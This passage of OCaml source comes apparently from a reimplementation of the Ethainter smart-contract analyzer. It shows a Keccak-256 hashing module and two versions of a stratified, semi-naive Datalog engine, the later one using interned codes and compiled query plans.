    sl.(i) <- Int64.to_int (Int64.logand state.(i) 0xFFFFFFFFL)
  done;
  keccak_f_hl sh sl (Array.make 25 0) (Array.make 25 0) (Array.make 5 0)
    (Array.make 5 0) (Array.make 5 0) (Array.make 5 0);
  for i = 0 to 24 do
    state.(i) <-
      Int64.logor
        (Int64.shift_left (Int64.of_int sh.(i)) 32)
        (Int64.of_int sl.(i))
  done

let rate_bytes = 136 (* 1088-bit rate for Keccak-256 *)

(** [hash msg] computes the 32-byte Keccak-256 digest of [msg]. *)
let hash (msg : string) : string =
  let sh = Array.make 25 0 and sl = Array.make 25 0 in
  let bh = Array.make 25 0 and bl = Array.make 25 0 in
  let ch = Array.make 5 0 and cl = Array.make 5 0 in
  let dh = Array.make 5 0 and dl = Array.make 5 0 in
  let len = String.length msg in
  (* Absorb a full rate-sized block: XOR 17 little-endian lanes into
     the state, then permute. *)
  let absorb_block (block : Bytes.t) =
    for i = 0 to (rate_bytes / 8) - 1 do
      let o = i * 8 in
      let lo =
        Char.code (Bytes.unsafe_get block o)
        lor (Char.code (Bytes.unsafe_get block (o + 1)) lsl 8)
        lor (Char.code (Bytes.unsafe_get block (o + 2)) lsl 16)
        lor (Char.code (Bytes.unsafe_get block (o + 3)) lsl 24)
      and hi =
        Char.code (Bytes.unsafe_get block (o + 4))
        lor (Char.code (Bytes.unsafe_get block (o + 5)) lsl 8)
        lor (Char.code (Bytes.unsafe_get block (o + 6)) lsl 16)
        lor (Char.code (Bytes.unsafe_get block (o + 7)) lsl 24)
      in
      sl.(i) <- sl.(i) lxor lo;
      sh.(i) <- sh.(i) lxor hi
    done;
    keccak_f_hl sh sl bh bl ch cl dh dl
  in
  let nfull = len / rate_bytes in
  let block = Bytes.create rate_bytes in
  for b = 0 to nfull - 1 do
    Bytes.blit_string msg (b * rate_bytes) block 0 rate_bytes;
    absorb_block block
  done;
  (* Final padded block: pad10*1 with the 0x01 domain byte (legacy
     Keccak as used by Ethereum). *)
  let remaining = len - (nfull * rate_bytes) in
  let last = Bytes.make rate_bytes '\000' in
  Bytes.blit_string msg (nfull * rate_bytes) last 0 remaining;
  Bytes.set last remaining (Char.chr 0x01);
  Bytes.set last (rate_bytes - 1)
    (Char.chr (Char.code (Bytes.get last (rate_bytes - 1)) lor 0x80));
  absorb_block last;
  (* Squeeze 32 bytes (4 lanes, little-endian). *)
  let out = Bytes.create 32 in
  for i = 0 to 3 do
    let o = i * 8 in
    let l = sl.(i) and h = sh.(i) in
    Bytes.unsafe_set out o (Char.unsafe_chr (l land 0xff));
    Bytes.unsafe_set out (o + 1) (Char.unsafe_chr ((l lsr 8) land 0xff));
    Bytes.unsafe_set out (o + 2) (Char.unsafe_chr ((l lsr 16) land 0xff));
    Bytes.unsafe_set out (o + 3) (Char.unsafe_chr ((l lsr 24) land 0xff));
    Bytes.unsafe_set out (o + 4) (Char.unsafe_chr (h land 0xff));
    Bytes.unsafe_set out (o + 5) (Char.unsafe_chr ((h lsr 8) land 0xff));
    Bytes.unsafe_set out (o + 6) (Char.unsafe_chr ((h lsr 16) land 0xff));
    Bytes.unsafe_set out (o + 7) (Char.unsafe_chr ((h lsr 24) land 0xff))
  done;
  Bytes.to_string out

(** Keccak-256 of a byte string, as a [Uint256] (big-endian digest). *)
let hash_word (msg : string) : Ethainter_word.Uint256.t =
  Ethainter_word.Uint256.of_bytes (hash msg)

(** The 4-byte Solidity function selector for a signature like
    ["transfer(address,uint256)"]. *)
let selector (signature : string) : string = String.sub (hash signature) 0 4

(** Storage slot of [mapping_slot[key]] for a Solidity mapping at slot
    [slot]: keccak256(pad32(key) ++ pad32(slot)). *)
let mapping_slot ~(key : Ethainter_word.Uint256.t)
    ~(slot : Ethainter_word.Uint256.t) : Ethainter_word.Uint256.t =
  hash_word
    (Ethainter_word.Uint256.to_bytes key ^ Ethainter_word.Uint256.to_bytes slot)
