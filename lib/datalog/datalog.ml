(** A stratified Datalog engine with semi-naive evaluation.

    Stand-in for the Soufflé engine the paper's implementation targets
    (§5: "several hundred declarative rules ... translated into highly
    optimized C++"). Ours is an in-memory interpreter:

    - relations over tuples of interned constants;
    - rules with positive and negated body atoms plus OCaml-side
      filter/compute atoms;
    - stratification with a negation-safety check (a relation may only
      be negated if it is fully computed in an earlier stratum);
    - semi-naive (delta-driven) fixpoint within each stratum;
    - hash-indexed joins: positive literals probe lazily-built,
      incrementally-maintained indexes keyed on their bound positions
      (the naive full-scan matcher remains available via
      [solve ~indexed:false] as the reference evaluator).

    The Section-4 formal model ({!Ethainter_ifspec}) runs literally on
    this engine; tests validate the engine against textbook programs
    (transitive closure, same-generation, negation). *)

type const =
  | Sym of string
  | Int of int

let const_to_string = function
  | Sym s -> s
  | Int i -> string_of_int i

type tuple = const array

module TupleSet = Set.Make (struct
  type t = tuple
  let compare = compare
end)

type term =
  | Var of string
  | Const of const

let v x = Var x
let sym s = Const (Sym s)
let int i = Const (Int i)

(** A body literal. *)
type literal =
  | Pos of string * term list       (** R(t...) *)
  | Neg of string * term list       (** !R(t...) — R must be in an
                                        earlier stratum *)
  | Filter of string list * (const list -> bool)
      (** an arbitrary test over bound variables *)
  | Bind of string * string list * (const list -> const option)
      (** bind a new variable from bound ones (functional computation) *)

type rule = {
  head : string * term list;
  body : literal list;
}

exception Datalog_error of string

let fail fmt = Printf.ksprintf (fun s -> raise (Datalog_error s)) fmt

type program = {
  mutable rules : rule list;
  relations : (string, int) Hashtbl.t; (* name -> arity *)
}

let create () = { rules = []; relations = Hashtbl.create 32 }

let declare p name arity =
  (match Hashtbl.find_opt p.relations name with
  | Some a when a <> arity ->
      fail "relation %s redeclared with arity %d (was %d)" name arity a
  | _ -> ());
  Hashtbl.replace p.relations name arity

let add_rule p head body =
  let check_atom (name, terms) =
    match Hashtbl.find_opt p.relations name with
    | None -> fail "rule references undeclared relation %s" name
    | Some a when a <> List.length terms ->
        fail "relation %s used with %d terms, declared arity %d" name
          (List.length terms) a
    | Some _ -> ()
  in
  check_atom head;
  List.iter
    (function
      | Pos (n, ts) | Neg (n, ts) -> check_atom (n, ts)
      | Filter _ | Bind _ -> ())
    body;
  p.rules <- { head; body } :: p.rules

(* ------------------------------------------------------------------ *)
(* Stratification                                                      *)
(* ------------------------------------------------------------------ *)

(* Build the dependency graph: head depends on each body relation;
   negated dependencies must not appear in a cycle. *)
let stratify (p : program) : string list list =
  let rels = Hashtbl.fold (fun r _ acc -> r :: acc) p.relations [] in
  (* edges: (from=body rel, to=head rel, negated) *)
  let edges =
    List.concat_map
      (fun r ->
        let h = fst r.head in
        List.filter_map
          (function
            | Pos (n, _) -> Some (n, h, false)
            | Neg (n, _) -> Some (n, h, true)
            | Filter _ | Bind _ -> None)
          r.body)
      p.rules
  in
  (* stratum numbers via fixpoint on constraints:
     stratum(h) >= stratum(b) for positive, > for negative *)
  let stratum = Hashtbl.create 32 in
  List.iter (fun r -> Hashtbl.replace stratum r 0) rels;
  let nrels = List.length rels in
  let changed = ref true in
  let iters = ref 0 in
  while !changed do
    changed := false;
    incr iters;
    if !iters > nrels + 2 then
      fail "program is not stratifiable (negation through recursion)";
    List.iter
      (fun (b, h, neg) ->
        let sb = Hashtbl.find stratum b and sh = Hashtbl.find stratum h in
        let need = if neg then sb + 1 else sb in
        if sh < need then begin
          Hashtbl.replace stratum h need;
          changed := true
        end)
      edges
  done;
  let max_s = Hashtbl.fold (fun _ s acc -> max s acc) stratum 0 in
  List.init (max_s + 1) (fun i ->
      List.filter (fun r -> Hashtbl.find stratum r = i) rels)

(* ------------------------------------------------------------------ *)
(* Evaluation                                                          *)
(* ------------------------------------------------------------------ *)

(* A stored relation: the tuple set plus hash indexes keyed on subsets
   of column positions. Indexes are built lazily the first time a rule
   evaluation needs one (the bound positions of a [Pos] literal under
   the current environment) and are maintained incrementally as the
   fixpoint derives new tuples, so a join probes a bucket instead of
   scanning the full relation. *)
type stored = {
  mutable tuples : TupleSet.t;
  indexes : (int list, (const array, tuple list ref) Hashtbl.t) Hashtbl.t;
      (* positions (ascending) -> key values at those positions -> tuples *)
}

type db = (string, stored) Hashtbl.t

let get_rel (db : db) name : stored =
  match Hashtbl.find_opt db name with
  | Some s -> s
  | None ->
      let s = { tuples = TupleSet.empty; indexes = Hashtbl.create 4 } in
      Hashtbl.replace db name s;
      s

let key_at (positions : int list) (tup : tuple) : const array =
  Array.of_list (List.map (fun p -> tup.(p)) positions)

let index_insert (idx : (const array, tuple list ref) Hashtbl.t) positions tup =
  let key = key_at positions tup in
  match Hashtbl.find_opt idx key with
  | Some bucket -> bucket := tup :: !bucket
  | None -> Hashtbl.replace idx key (ref [ tup ])

(* Add a tuple, keeping every registered index in sync. *)
let stored_add (s : stored) (tup : tuple) : unit =
  s.tuples <- TupleSet.add tup s.tuples;
  Hashtbl.iter (fun positions idx -> index_insert idx positions tup) s.indexes

(* The index on [positions], building it from the current tuples on
   first use. *)
let ensure_index (s : stored) (positions : int list) :
    (const array, tuple list ref) Hashtbl.t =
  match Hashtbl.find_opt s.indexes positions with
  | Some idx -> idx
  | None ->
      let idx = Hashtbl.create 64 in
      TupleSet.iter (fun tup -> index_insert idx positions tup) s.tuples;
      Hashtbl.replace s.indexes positions idx;
      idx

type env = (string * const) list

let lookup env x = List.assoc_opt x env

let match_term (env : env) (t : term) (c : const) : env option =
  match t with
  | Const k -> if k = c then Some env else None
  | Var x -> (
      match lookup env x with
      | Some k -> if k = c then Some env else None
      | None -> Some ((x, c) :: env))

let match_tuple env (terms : term list) (tup : tuple) : env option =
  let rec go env ts i =
    match ts with
    | [] -> Some env
    | t :: rest -> (
        match match_term env t tup.(i) with
        | Some env' -> go env' rest (i + 1)
        | None -> None)
  in
  if List.length terms <> Array.length tup then None else go env terms 0

let eval_term env = function
  | Const k -> k
  | Var x -> (
      match lookup env x with
      | Some k -> k
      | None -> fail "unbound variable %s in rule head" x)

(* Positions of a literal's terms that are ground under [env] (a
   constant, or a variable already bound), with their values. *)
let bound_positions (env : env) (terms : term list) : (int * const) list =
  List.mapi (fun i t -> (i, t)) terms
  |> List.filter_map (fun (i, t) ->
         match t with
         | Const c -> Some (i, c)
         | Var x -> (
             match lookup env x with Some c -> Some (i, c) | None -> None))

(* Evaluate the body literals left-to-right; call k on each complete
   environment. [delta_at] optionally forces literal #i to range over a
   delta set instead of the full relation (semi-naive). When [indexed]
   is set, a [Pos] literal over the full relation probes a hash index
   on its bound positions instead of scanning every tuple; with it
   unset this is the naive reference evaluator. *)
let rec eval_body ~(indexed : bool) (db : db)
    (delta : (string * TupleSet.t) option) (delta_at : int option)
    (lits : literal list) (idx : int) (env : env) (k : env -> unit) : unit =
  (* one poll per body-literal step bounds a runaway join; the
     countdown in [Deadline.poll] amortizes the clock read *)
  Ethainter_runtime.Deadline.poll ();
  match lits with
  | [] -> k env
  | Filter (vars, f) :: rest ->
      let vals =
        List.map
          (fun x ->
            match lookup env x with
            | Some c -> c
            | None -> fail "filter over unbound variable %s" x)
          vars
      in
      if f vals then eval_body ~indexed db delta delta_at rest (idx + 1) env k
  | Bind (x, vars, f) :: rest -> (
      let vals =
        List.map
          (fun y ->
            match lookup env y with
            | Some c -> c
            | None -> fail "bind over unbound variable %s" y)
          vars
      in
      match f vals with
      | Some c -> (
          match lookup env x with
          | Some c' ->
              if c = c' then
                eval_body ~indexed db delta delta_at rest (idx + 1) env k
          | None ->
              eval_body ~indexed db delta delta_at rest (idx + 1) ((x, c) :: env)
                k)
      | None -> ())
  | Neg (name, terms) :: rest ->
      let rel = (get_rel db name).tuples in
      let ground =
        List.map (fun t -> eval_term env t) terms |> Array.of_list
      in
      if not (TupleSet.mem ground rel) then
        eval_body ~indexed db delta delta_at rest (idx + 1) env k
  | Pos (name, terms) :: rest -> (
      let continue env' =
        eval_body ~indexed db delta delta_at rest (idx + 1) env' k
      in
      let scan source =
        TupleSet.iter
          (fun tup ->
            match match_tuple env terms tup with
            | Some env' -> continue env'
            | None -> ())
          source
      in
      match (delta, delta_at) with
      | Some (dname, dset), Some di when di = idx && dname = name ->
          (* deltas are small and short-lived; a scan is fine *)
          scan dset
      | _ ->
          let s = get_rel db name in
          let bound = if indexed then bound_positions env terms else [] in
          if bound = [] then scan s.tuples
          else begin
            let positions = List.map fst bound in
            let key = Array.of_list (List.map snd bound) in
            let idx_tbl = ensure_index s positions in
            match Hashtbl.find_opt idx_tbl key with
            | None -> ()
            | Some bucket ->
                (* snapshot: new derivations cons onto the ref without
                   affecting this iteration *)
                List.iter
                  (fun tup ->
                    match match_tuple env terms tup with
                    | Some env' -> continue env'
                    | None -> ())
                  !bucket
          end)

let head_tuple env (terms : term list) : tuple =
  List.map (eval_term env) terms |> Array.of_list

(** Run the program over the initial facts; returns the database of all
    derived relations. [indexed] (default) joins through per-relation
    hash indexes on the bound positions of each positive literal;
    [~indexed:false] is the naive full-scan reference evaluator the
    differential tests compare against. *)
let solve ?(indexed = true) (p : program) (facts : (string * tuple list) list)
    : db =
  let db : db = Hashtbl.create 32 in
  List.iter
    (fun (name, tuples) ->
      (match Hashtbl.find_opt p.relations name with
      | None -> fail "facts for undeclared relation %s" name
      | Some a ->
          List.iter
            (fun t ->
              if Array.length t <> a then
                fail "fact arity mismatch for %s" name)
            tuples);
      let r = get_rel db name in
      List.iter (fun t -> if not (TupleSet.mem t r.tuples) then stored_add r t)
        tuples)
    facts;
  let strata = stratify p in
  List.iter
    (fun stratum_rels ->
      let rules =
        List.filter (fun r -> List.mem (fst r.head) stratum_rels) p.rules
      in
      (* naive first round to seed *)
      let deltas : (string, TupleSet.t) Hashtbl.t = Hashtbl.create 8 in
      let add_fact name tup =
        let r = get_rel db name in
        if not (TupleSet.mem tup r.tuples) then begin
          stored_add r tup;
          let d =
            match Hashtbl.find_opt deltas name with
            | Some d -> d
            | None -> TupleSet.empty
          in
          Hashtbl.replace deltas name (TupleSet.add tup d)
        end
      in
      List.iter
        (fun rule ->
          eval_body ~indexed db None None rule.body 0 []
            (fun env -> add_fact (fst rule.head) (head_tuple env (snd rule.head))))
        rules;
      (* semi-naive iterations *)
      let continue = ref (Hashtbl.length deltas > 0) in
      while !continue do
        Ethainter_runtime.Deadline.poll ();
        let current = Hashtbl.fold (fun n d acc -> (n, d) :: acc) deltas [] in
        Hashtbl.reset deltas;
        List.iter
          (fun rule ->
            List.iteri
              (fun i lit ->
                match lit with
                | Pos (name, _) -> (
                    match List.assoc_opt name current with
                    | Some dset when not (TupleSet.is_empty dset) ->
                        eval_body ~indexed db (Some (name, dset)) (Some i)
                          rule.body 0 []
                          (fun env ->
                            add_fact (fst rule.head)
                              (head_tuple env (snd rule.head)))
                    | _ -> ())
                | _ -> ())
              rule.body)
          rules;
        continue := Hashtbl.length deltas > 0
      done)
    strata;
  db

(** All tuples of a relation in the solved database. *)
let relation (db : db) name : tuple list =
  match Hashtbl.find_opt db name with
  | Some s -> TupleSet.elements s.tuples
  | None -> []

let mem (db : db) name (tup : tuple) : bool =
  match Hashtbl.find_opt db name with
  | Some s -> TupleSet.mem tup s.tuples
  | None -> false

let size (db : db) name = List.length (relation db name)
