(** A stratified Datalog engine with semi-naive evaluation and a
    compile-once query planner.

    Stand-in for the Soufflé engine the paper's implementation targets
    (§5: "several hundred declarative rules ... translated into highly
    optimized C++"). Soufflé compiles each rule ahead of time; ours
    plans each rule ahead of time and then interprets the plan:

    - constants are interned into integer {e codes} through the shared
      {!Ethainter_runtime.Intern} table, so tuples are [int array]s
      compared and hashed as native ints (never through polymorphic
      [compare] on [const array]), and symbol ids are shared across
      scheduler domains;
    - before evaluation every rule is compiled once per program:
      variables are numbered into {e slots} so the runtime environment
      is a preallocated [int array] of codes (a negative sentinel marks
      unbound — no assoc list, no option boxing), and each positive
      literal's {e adornment} — the positions ground at the time the
      literal is reached — is computed statically from which slots
      earlier literals bind, fixing its index shape at plan time
      instead of re-deriving it from the environment on every probe;
    - positive literals probe lazily-built, incrementally-maintained
      hash indexes keyed on their adorned positions; semi-naive deltas
      get the same treatment when they grow past
      {!delta_index_threshold}, so the inner loop probes a delta index
      instead of scanning a large delta;
    - stratification with a negation-safety check (a relation may only
      be negated if it is fully computed in an earlier stratum);
    - plans are cached on the program and reused across [solve] calls
      (an outer-fixpoint driver that re-solves the same program with
      new facts compiles exactly once).

    The PR 1 evaluators are kept intact as references:
    [solve ~indexed:false] is the naive full-scan matcher and
    [solve ~indexed:true] the per-probe-adorned indexed matcher; the
    differential suite checks planned == indexed == naive.

    The Section-4 formal model ({!Ethainter_ifspec}) runs literally on
    this engine; tests validate the engine against textbook programs
    (transitive closure, same-generation, negation). *)

module Intern = Ethainter_runtime.Intern

type const =
  | Sym of string
  | Int of int

let const_to_string = function
  | Sym s -> s
  | Int i -> string_of_int i

(** A ground tuple at the API boundary. Internally tuples are arrays
    of interned codes; see {!encode_const}. *)
type tuple = const array

type term =
  | Var of string
  | Const of const

let v x = Var x
let sym s = Const (Sym s)
let int i = Const (Int i)

(** A body literal. *)
type literal =
  | Pos of string * term list       (** R(t...) *)
  | Neg of string * term list       (** !R(t...) — R must be in an
                                        earlier stratum *)
  | Filter of string list * (const list -> bool)
      (** an arbitrary test over bound variables *)
  | Bind of string * string list * (const list -> const option)
      (** bind a new variable from bound ones (functional computation) *)

type rule = {
  head : string * term list;
  body : literal list;
}

exception Datalog_error of string

let fail fmt = Printf.ksprintf (fun s -> raise (Datalog_error s)) fmt

(* ------------------------------------------------------------------ *)
(* Interned constant codes                                             *)
(* ------------------------------------------------------------------ *)

(* A [const] is encoded into one native int:
   - [Int i] in direct range: [i lsl 1] (tag bit 0 clear);
   - everything else: [(Intern.id key lsl 1) lor 1] (tag bit set),
     where [key] is "s" ^ sym for symbols and "i" ^ decimal for the
     (rare) out-of-range ints.
   Direct codes are even, interned codes are positive odd, so [-1] is
   never a valid code and serves as the unbound-slot sentinel. The
   intern table is process-wide ({!Ethainter_runtime.Intern}): the
   same symbol gets the same code in every scheduler domain, and the
   per-domain codec caches below keep the hot path lock-free. *)

let unbound = -1

let direct_ok i = (i lsl 1) asr 1 = i

type codec_cache = {
  enc : (const, int) Hashtbl.t;
  dec : (int, const) Hashtbl.t;
}

let codec_key =
  Domain.DLS.new_key (fun () ->
      { enc = Hashtbl.create 256; dec = Hashtbl.create 256 })

let encode_const (c : const) : int =
  match c with
  | Int i when direct_ok i -> i lsl 1
  | _ -> (
      let cc = Domain.DLS.get codec_key in
      match Hashtbl.find_opt cc.enc c with
      | Some k -> k
      | None ->
          let s =
            match c with
            | Sym s -> "s" ^ s
            | Int i -> "i" ^ string_of_int i
          in
          let k = (Intern.id s lsl 1) lor 1 in
          Hashtbl.replace cc.enc c k;
          Hashtbl.replace cc.dec k c;
          k)

let decode_code (k : int) : const =
  if k land 1 = 0 then Int (k asr 1)
  else
    let cc = Domain.DLS.get codec_key in
    match Hashtbl.find_opt cc.dec k with
    | Some c -> c
    | None ->
        let s = Intern.to_string (k lsr 1) in
        let body = String.sub s 1 (String.length s - 1) in
        let c = if s.[0] = 's' then Sym body else Int (int_of_string body) in
        Hashtbl.replace cc.dec k c;
        Hashtbl.replace cc.enc c k;
        c

type ituple = int array

let encode_tuple (t : tuple) : ituple = Array.map encode_const t
let decode_tuple (t : ituple) : tuple = Array.map decode_code t

module ITuple = struct
  type t = ituple

  (* monomorphic: int compares, no polymorphic dispatch *)
  let compare (a : ituple) (b : ituple) =
    let la = Array.length a and lb = Array.length b in
    if la <> lb then Stdlib.compare la lb
    else begin
      let r = ref 0 and i = ref 0 in
      while !r = 0 && !i < la do
        let d = Stdlib.compare (a.(!i) : int) b.(!i) in
        r := d;
        incr i
      done;
      !r
    end
end

module TupleSet = Set.Make (ITuple)

(* ------------------------------------------------------------------ *)
(* Stored relations and indexes                                        *)
(* ------------------------------------------------------------------ *)

(* An index on a subset of column positions, identified by the bitmask
   of those positions (cheaper registry key than a position list: one
   int hash per probe). *)
type index = {
  ipos : int array; (* positions, ascending *)
  itbl : (ituple, ituple list ref) Hashtbl.t;
      (* key values at [ipos] -> tuples *)
}

(* A stored relation: the tuple set, its cardinality (so [size] and
   the delta-index threshold are O(1)), plus hash indexes keyed on
   position masks. Indexes are built lazily the first time a plan
   needs one and maintained incrementally as the fixpoint derives new
   tuples, so a join probes a bucket instead of scanning. *)
type stored = {
  mutable tuples : TupleSet.t;
  mutable count : int;
  indexes : (int, index) Hashtbl.t;
}

type db = (string, stored) Hashtbl.t

let new_stored () =
  { tuples = TupleSet.empty; count = 0; indexes = Hashtbl.create 4 }

let get_rel (db : db) name : stored =
  match Hashtbl.find_opt db name with
  | Some s -> s
  | None ->
      let s = new_stored () in
      Hashtbl.replace db name s;
      s

let index_insert (ix : index) (tup : ituple) =
  let key = Array.map (fun p -> tup.(p)) ix.ipos in
  match Hashtbl.find_opt ix.itbl key with
  | Some bucket -> bucket := tup :: !bucket
  | None -> Hashtbl.replace ix.itbl key (ref [ tup ])

(* Add a tuple the caller knows to be fresh, keeping every registered
   index in sync. *)
let stored_add (s : stored) (tup : ituple) : unit =
  s.tuples <- TupleSet.add tup s.tuples;
  s.count <- s.count + 1;
  Hashtbl.iter (fun _ ix -> index_insert ix tup) s.indexes

(* The index on [positions] (with bitmask [mask]), building it from
   the current tuples on first use. *)
let ensure_index (s : stored) ~(mask : int) ~(positions : int array) : index =
  match Hashtbl.find_opt s.indexes mask with
  | Some ix -> ix
  | None ->
      let ix = { ipos = positions; itbl = Hashtbl.create 64 } in
      TupleSet.iter (fun tup -> index_insert ix tup) s.tuples;
      Hashtbl.replace s.indexes mask ix;
      ix

(* ------------------------------------------------------------------ *)
(* Compiled plans                                                      *)
(* ------------------------------------------------------------------ *)

(* How to produce a ground code at evaluation time: a plan-time
   constant, or the current value of a slot an earlier literal bound. *)
type key_src = Kconst of int | Kslot of int

(* Per-position matcher for a positive literal:
   - [Mconst k]: position must equal the constant code [k];
   - [Mbind s]: first occurrence of a variable unbound at this
     literal — write the tuple's code into slot [s];
   - [Mcheck s]: slot [s] is already bound (by an earlier literal, or
     by an earlier position of this same literal) — compare. *)
type pm = Mconst of int | Mbind of int | Mcheck of int

type cpos = {
  prel : string;
  pindex : int array;
      (* the adornment: positions ground before this literal, ascending *)
  pmask : int; (* bitmask of [pindex] *)
  pkey : key_src array; (* probe-key source per adorned position *)
  pscan : pm array; (* full per-position matchers, for scans *)
  prest : (int * pm) array;
      (* non-adorned positions only, for index probes (the adorned
         ones match by construction of the bucket — no re-check) *)
  pbinds : int array; (* slots this literal binds (reset set) *)
}

type cstep =
  | CPos of cpos
  | CNeg of { nrel : string; nkey : key_src array }
  | CFilter of { fslots : int array; ffn : const list -> bool }
  | CBind of {
      bslots : int array;
      bfn : const list -> const option;
      bdst : int;
      bfresh : bool; (* dst unbound before this literal: bind, else check *)
    }

type crule = {
  cname : string; (* head relation *)
  chead : key_src array;
  csteps : cstep array; (* one step per body literal, in order *)
  cnslots : int;
  cvars : string array; (* slot -> variable name (diagnostics) *)
}

type compiled = { cstrata : (string list * crule array) list }

(* Adornment introspection for tests/diagnostics. *)
type adornment = { ad_rel : string; ad_bound : int list }

(* ------------------------------------------------------------------ *)
(* Programs                                                            *)
(* ------------------------------------------------------------------ *)

type program = {
  mutable rules : rule list;
  relations : (string, int) Hashtbl.t; (* name -> arity *)
  mutable plan : compiled option;
      (* cached plan; invalidated when the program changes *)
}

let create () = { rules = []; relations = Hashtbl.create 32; plan = None }

let declare p name arity =
  (match Hashtbl.find_opt p.relations name with
  | Some a when a <> arity ->
      fail "relation %s redeclared with arity %d (was %d)" name arity a
  | _ -> ());
  Hashtbl.replace p.relations name arity;
  p.plan <- None

let add_rule p head body =
  let check_atom (name, terms) =
    match Hashtbl.find_opt p.relations name with
    | None -> fail "rule references undeclared relation %s" name
    | Some a when a <> List.length terms ->
        fail "relation %s used with %d terms, declared arity %d" name
          (List.length terms) a
    | Some _ -> ()
  in
  check_atom head;
  List.iter
    (function
      | Pos (n, ts) | Neg (n, ts) -> check_atom (n, ts)
      | Filter _ | Bind _ -> ())
    body;
  p.rules <- { head; body } :: p.rules;
  p.plan <- None

(* ------------------------------------------------------------------ *)
(* Stratification                                                      *)
(* ------------------------------------------------------------------ *)

(* Build the dependency graph: head depends on each body relation;
   negated dependencies must not appear in a cycle. *)
let stratify (p : program) : string list list =
  let rels = Hashtbl.fold (fun r _ acc -> r :: acc) p.relations [] in
  (* edges: (from=body rel, to=head rel, negated) *)
  let edges =
    List.concat_map
      (fun r ->
        let h = fst r.head in
        List.filter_map
          (function
            | Pos (n, _) -> Some (n, h, false)
            | Neg (n, _) -> Some (n, h, true)
            | Filter _ | Bind _ -> None)
          r.body)
      p.rules
  in
  (* stratum numbers via fixpoint on constraints:
     stratum(h) >= stratum(b) for positive, > for negative *)
  let stratum = Hashtbl.create 32 in
  List.iter (fun r -> Hashtbl.replace stratum r 0) rels;
  let nrels = List.length rels in
  let changed = ref true in
  let iters = ref 0 in
  while !changed do
    changed := false;
    incr iters;
    if !iters > nrels + 2 then
      fail "program is not stratifiable (negation through recursion)";
    List.iter
      (fun (b, h, neg) ->
        let sb = Hashtbl.find stratum b and sh = Hashtbl.find stratum h in
        let need = if neg then sb + 1 else sb in
        if sh < need then begin
          Hashtbl.replace stratum h need;
          changed := true
        end)
      edges
  done;
  let max_s = Hashtbl.fold (fun _ s acc -> max s acc) stratum 0 in
  List.init (max_s + 1) (fun i ->
      List.filter (fun r -> Hashtbl.find stratum r = i) rels)

(* ------------------------------------------------------------------ *)
(* Rule compilation                                                    *)
(* ------------------------------------------------------------------ *)

(* Plans built so far (cold path — bumped once per rule per program
   compilation, never per probe; the tier-1 smoke test pins this). *)
let plan_builds = Atomic.make 0
let plan_cache_hits = Atomic.make 0

type stats = { plans_built : int; plan_reuses : int }

let stats () =
  { plans_built = Atomic.get plan_builds;
    plan_reuses = Atomic.get plan_cache_hits }

(* Compile one rule: number variables into slots and walk the body
   left-to-right tracking which slots are statically bound, fixing
   each literal's adornment (and therefore its index shape) at plan
   time. *)
let compile_rule (r : rule) : crule =
  let slots : (string, int) Hashtbl.t = Hashtbl.create 8 in
  let names = ref [] in
  let nslots = ref 0 in
  let slot_of x =
    match Hashtbl.find_opt slots x with
    | Some s -> s
    | None ->
        let s = !nslots in
        incr nslots;
        Hashtbl.replace slots x s;
        names := x :: !names;
        s
  in
  let bound : (int, unit) Hashtbl.t = Hashtbl.create 8 in
  let bound_slot_of x =
    match Hashtbl.find_opt slots x with
    | Some s when Hashtbl.mem bound s -> s
    | _ -> raise Not_found
  in
  let steps =
    List.map
      (fun lit ->
        match lit with
        | Pos (name, terms) ->
            let arity = List.length terms in
            let pms = Array.make arity (Mconst 0) in
            let binds_here : (int, unit) Hashtbl.t = Hashtbl.create 4 in
            List.iteri
              (fun i t ->
                match t with
                | Const c -> pms.(i) <- Mconst (encode_const c)
                | Var x ->
                    let s = slot_of x in
                    if Hashtbl.mem bound s || Hashtbl.mem binds_here s then
                      pms.(i) <- Mcheck s
                    else begin
                      pms.(i) <- Mbind s;
                      Hashtbl.replace binds_here s ()
                    end)
              terms;
            (* adornment: positions whose value is known before this
               literal (constants, and slots bound by earlier
               literals; a repeat of a variable first bound by this
               same literal is a within-tuple check, not adorned) *)
            let idx = ref [] and key = ref [] and rest = ref [] in
            Array.iteri
              (fun i pmv ->
                match pmv with
                | Mconst k ->
                    idx := i :: !idx;
                    key := Kconst k :: !key
                | Mcheck s when Hashtbl.mem bound s ->
                    idx := i :: !idx;
                    key := Kslot s :: !key
                | (Mcheck _ | Mbind _) as m -> rest := (i, m) :: !rest)
              pms;
            let pindex = Array.of_list (List.rev !idx) in
            let pmask =
              Array.fold_left (fun m i -> m lor (1 lsl i)) 0 pindex
            in
            let step =
              CPos
                { prel = name;
                  pindex;
                  pmask;
                  pkey = Array.of_list (List.rev !key);
                  pscan = pms;
                  prest = Array.of_list (List.rev !rest);
                  pbinds =
                    Array.of_list
                      (Hashtbl.fold (fun s () acc -> s :: acc) binds_here []);
                }
            in
            Hashtbl.iter (fun s () -> Hashtbl.replace bound s ()) binds_here;
            step
        | Neg (name, terms) ->
            let nkey =
              Array.of_list
                (List.map
                   (fun t ->
                     match t with
                     | Const c -> Kconst (encode_const c)
                     | Var x -> (
                         try Kslot (bound_slot_of x)
                         with Not_found ->
                           fail "unbound variable %s under negation of %s" x
                             name))
                   terms)
            in
            CNeg { nrel = name; nkey }
        | Filter (vars, f) ->
            let fslots =
              Array.of_list
                (List.map
                   (fun x ->
                     try bound_slot_of x
                     with Not_found ->
                       fail "filter over unbound variable %s" x)
                   vars)
            in
            CFilter { fslots; ffn = f }
        | Bind (x, vars, f) ->
            let bslots =
              Array.of_list
                (List.map
                   (fun y ->
                     try bound_slot_of y
                     with Not_found -> fail "bind over unbound variable %s" y)
                   vars)
            in
            let bdst = slot_of x in
            let bfresh = not (Hashtbl.mem bound bdst) in
            if bfresh then Hashtbl.replace bound bdst ();
            CBind { bslots; bfn = f; bdst; bfresh })
      r.body
  in
  let chead =
    Array.of_list
      (List.map
         (fun t ->
           match t with
           | Const c -> Kconst (encode_const c)
           | Var x -> (
               try Kslot (bound_slot_of x)
               with Not_found -> fail "unbound variable %s in rule head" x))
         (snd r.head))
  in
  { cname = fst r.head;
    chead;
    csteps = Array.of_list steps;
    cnslots = !nslots;
    cvars = Array.of_list (List.rev !names) }

(* The program's plan: strata with their compiled rules, built once
   and cached on the program until it changes. *)
let compile (p : program) : compiled =
  match p.plan with
  | Some c ->
      Atomic.incr plan_cache_hits;
      c
  | None ->
      let strata = stratify p in
      let in_order = List.rev p.rules in
      let cstrata =
        List.map
          (fun rels ->
            let rs = List.filter (fun r -> List.mem (fst r.head) rels) in_order in
            let crs =
              Array.of_list
                (List.map
                   (fun r ->
